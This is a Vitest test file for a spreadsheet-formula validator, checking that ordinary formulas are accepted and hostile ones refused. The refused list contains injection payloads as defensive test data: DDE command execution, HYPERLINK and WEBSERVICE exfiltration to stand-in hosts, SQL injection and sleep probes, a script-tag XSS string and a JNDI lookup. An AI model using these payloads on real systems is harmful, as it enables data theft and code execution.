import { describe, expect, it } from 'vitest';
import { fieldIntentOfName } from '../../src/model/field-intent.js';
import { isSpreadsheetFormula } from '../../src/model/spreadsheet-formula.js';

describe('isSpreadsheetFormula', () => {
  it('takes formulas of worksheet functions, references, names, numbers and plain strings (blind benign set 8)', () => {
    for (const f of [
      '=LET(x,FILTER(Tx[Amount],Tx[Cat]="Travel"),SUM(x)/COUNT(x))',
      '=XLOOKUP(A2,Rates[Currency],Rates[EURRate],1)',
      '=ROUND(B2*Amounts!C2,2)',
      "=TEXT(TODAY(),\"yyyy-mm-dd\")&\" – \"&'Q4 Plan'!A1",
      '=IFS(B4>1E+6,"high",B4>1E3,"mid",TRUE,"low")',
      '=SUMIFS(Orders!E:E,Orders!C:C,"EU",Orders!B:B,">="&DATE(2026,11,1))',
      '=B2/SUM($B$2:$B$5)',
      'ROUND({gross} / (1 + {vat_rate} / 100), 2)',
      '=COUNTIFS([Status]:[Status], "Open", [Team]:[Team], @cell <> "Sales")',
      '=IF([Due]@row < TODAY(), "Red", IF([Due]@row < TODAY(7), "Yellow", "Green"))',
      '=SUMMEWENN(A2:A6;"<>storniert";B2:B6)',
    ]) {
      expect(isSpreadsheetFormula(f), f).toBe(true);
    }
  });

  it('refuses functions that fetch, link or run, DDE, SQL dressed as a formula, comments, break-outs and markup', () => {
    for (const f of [
      '=IF(1=1,SLEEP(5),0)--',
      '=IF(COUNT(*)!=-8,(SLEEP(3)),0)',
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      '=IMPORTXML("http://x.example/","//a")',
      '=WEBSERVICE("http://x.example/"&A1)',
      '=IMAGE("http://x.example/a.png")',
      '=SUM(1) OR 1=1',
      '=SUM(A1)/*x*/',
      '=SUM(A1);DROP TABLE x',
      '="<script>alert(1)</script>"',
      "=\"x' OR '1'='1\"",
      "1' OR '1'='1",
      '${jndi:ldap://x.example/a}',
      '=SUM(A1',
      '=A1',
    ]) {
      expect(isSpreadsheetFormula(f), f).toBe(false);
    }
  });
});

describe('fieldIntentOfName: formula', () => {
  it('reads a field named for its formula as one', () => {
    for (const n of ['formulas[1][0]', 'options.formula', 'formula_raw', 'cells[2].formula']) expect(fieldIntentOfName(n), n).toBe('formula');
    for (const n of ['formation', 'value', 'expression', 'q']) expect(fieldIntentOfName(n), n).not.toBe('formula');
  });
});
